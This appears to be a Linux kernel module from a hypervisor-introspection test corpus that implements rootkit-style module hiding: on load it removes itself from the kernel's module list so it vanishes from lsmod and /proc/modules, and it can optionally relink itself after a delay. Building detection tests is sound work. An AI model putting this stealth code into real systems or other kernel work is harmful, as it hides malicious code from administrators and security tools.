// SPDX-License-Identifier: GPL-2.0
/* Attack: unlink this module from the kernel's modules list (it vanishes from /proc/modules
 * and lsmod). With restore_ms > 0 it links itself back after that delay so it can be
 * unloaded; with 0 it stays hidden until reboot. */
#include <linux/module.h>
#include <linux/workqueue.h>
#include <linux/mutex.h>
#include "attack_common.h"

static int restore_ms;
module_param(restore_ms, int, 0444);
static struct list_head *prev;
static bool hidden;

static void relink(struct work_struct *w)
{
	struct mutex *mm = (struct mutex *)hvi_attack_lookup("module_mutex");

	if (mm)
		mutex_lock(mm);
	list_add_rcu(&THIS_MODULE->list, prev);
	hidden = false;
	if (mm)
		mutex_unlock(mm);
	pr_info("hvi-attack: module relinked\n");
}
static DECLARE_DELAYED_WORK(relink_work, relink);

static int __init attack_init(void)
{
	struct mutex *mm = (struct mutex *)hvi_attack_lookup("module_mutex");

	if (mm)
		mutex_lock(mm);
	prev = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	hidden = true;
	if (mm)
		mutex_unlock(mm);
	pr_info("hvi-attack: module %s hidden (struct module %px)\n", THIS_MODULE->name,
		THIS_MODULE);
	if (restore_ms > 0)
		schedule_delayed_work(&relink_work, msecs_to_jiffies(restore_ms));
	return 0;
}

static void __exit attack_exit(void)
{
	cancel_delayed_work_sync(&relink_work);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: module hiding by list unlink");
